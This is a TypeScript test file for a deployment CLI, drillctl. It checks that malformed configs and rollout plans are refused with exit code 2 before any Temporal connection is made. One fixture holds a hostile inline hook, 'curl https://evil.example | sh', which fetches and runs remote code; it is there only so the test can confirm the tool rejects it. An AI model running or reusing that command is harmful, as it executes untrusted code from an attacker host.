import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { runDrillctl } from '../support/drillctl';
import { tempDir } from '../support/worker';

/**
 * Stands where Temporal would be and counts connections: a command refused for its config or
 * plan must exit 2 without ever reaching for the server, so nothing can have started.
 */
async function connectionCounter(): Promise<{ address: string; connections: () => number; stop: () => Promise<void> }> {
  let count = 0;
  const server = net.createServer((socket) => {
    count++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as net.AddressInfo;
  return { address: `127.0.0.1:${port}`, connections: () => count, stop: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

const config = (production: string, rollout = ''): string => `
environments:
  prod:
${production}
    cloudRun: { project: p, region: us-central1 }
    health: { backendUrl: https://backend.example, dashboardUrl: https://dashboard.example }
    serviceGroups:
      convex:
        services:
          backend: { service: oa-convex-backend }
          dashboard: { service: oa-convex-dashboard }
    rollout:
      hooks:
        cohort-flag:
          params: [cohort]
          do: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: true } } }
          undo: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: false } } }
${rollout}`;

const plan = (hooks: string): string => `
environment: prod
serviceGroup: convex
steps:
  - name: staff
    percent: 0
    tag: staff
    hooks:
${hooks}
  - name: full
    percent: 100
`;

describe('drillctl refuses a config or plan that is not strict (CLI as a subprocess)', function () {
  this.timeout(60_000);
  let dir: string;
  let temporal: Awaited<ReturnType<typeof connectionCounter>>;
  before(async () => {
    dir = tempDir('strict-config');
    temporal = await connectionCounter();
  });
  after(() => temporal.stop());

  const write = (name: string, text: string): string => {
    const file = path.join(dir, name);
    fs.writeFileSync(file, text);
    return file;
  };
  const drillctl = (args: string[]) => runDrillctl(args, { TEMPORAL_ADDRESS: temporal.address, DRILLCTL_HOME: dir, DRILLCTL_CONFIG: '' });

  it('`Production: true` is refused with exit 2, naming the key and suggesting `production`; the drill never starts', async () => {
    const file = write('capital-p.yaml', config('    Production: true'));
    const run = await drillctl(['--config', file, 'drill', 'rollback', '--apply', '--as', 'carol']);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /environments\.prod: unknown key "Production"; did you mean "production"\?/);
    assert.match(run.stderr, /environments\.prod\.production: required/);
    assert.equal(temporal.connections(), 0, 'nothing reached for Temporal');
  });

  it('a non-sandbox environment that does not say production: true or false is refused with exit 2', async () => {
    const file = write('no-production.yaml', config(''));
    const run = await drillctl(['--config', file, 'drill', 'rollback', '--apply', '--as', 'carol']);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /environments\.prod\.production: required: say production: true or production: false \(only a sandbox may leave it out\)/);
    assert.equal(temporal.connections(), 0);
  });

  it('a rollout plan with an inline shell command is refused naming the field; nothing is started', async () => {
    const cfg = write('ok.yaml', config('    production: false'));
    const inline = write('inline.yaml', plan('      - name: staff-flag\n        do: { command: { argv: [/bin/sh, -c, "curl https://evil.example | sh"] } }\n        undo: { command: { argv: ["true"] } }'));
    const run = await drillctl(['--config', cfg, 'rollout', 'start', '-f', inline, '--as', 'carol']);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /steps\.0\.hooks\.0: "do" is not allowed here: a plan names a hook declared in the worker's config/);
    assert.match(run.stderr, /nothing was started/);
    assert.equal(temporal.connections(), 0);
  });

  it('a rollout plan naming a hook the config lacks is refused naming the field; nothing is started', async () => {
    const cfg = write('ok2.yaml', config('    production: false'));
    const unknown = write('unknown-hook.yaml', plan('      - { name: cohort-flags, params: { cohort: staff } }'));
    const run = await drillctl(['--config', cfg, 'rollout', 'start', '-f', unknown, '--as', 'carol']);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /steps\.0\.hooks\.0\.name: hook "cohort-flags" is not declared in environments\.prod\.rollout\.hooks of the worker's config; did you mean "cohort-flag"\?/);
    assert.equal(temporal.connections(), 0);
    // The same plan with the declared name passes the checks that come before any start.
    const known = write('known-hook.yaml', plan('      - { name: cohort-flag, params: { cohort: staff } }'));
    const planned = await drillctl(['--config', cfg, 'rollout', 'plan', '-f', known]);
    assert.equal(planned.code, 0, planned.stderr);
  });

  it('config and plan files over 1 MiB are refused before they are read', async () => {
    const big = write('big.yaml', config('    production: false') + `# ${'x'.repeat(1024 * 1024)}\n`);
    const run = await drillctl(['--config', big, 'rollout', 'plan', '-f', write('p.yaml', plan('      - { name: cohort-flag, params: { cohort: staff } }'))]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /over the 1048576-byte \(1 MiB\) limit/);
    const bigPlan = write('big-plan.yaml', plan('      - { name: cohort-flag, params: { cohort: staff } }') + `# ${'x'.repeat(1024 * 1024)}\n`);
    const planned = await drillctl(['--config', write('ok3.yaml', config('    production: false')), 'rollout', 'plan', '-f', bigPlan]);
    assert.equal(planned.code, 2, planned.stderr);
    assert.match(planned.stderr, /big-plan\.yaml is \d+ bytes, over the 1048576-byte \(1 MiB\) limit/);
  });
});
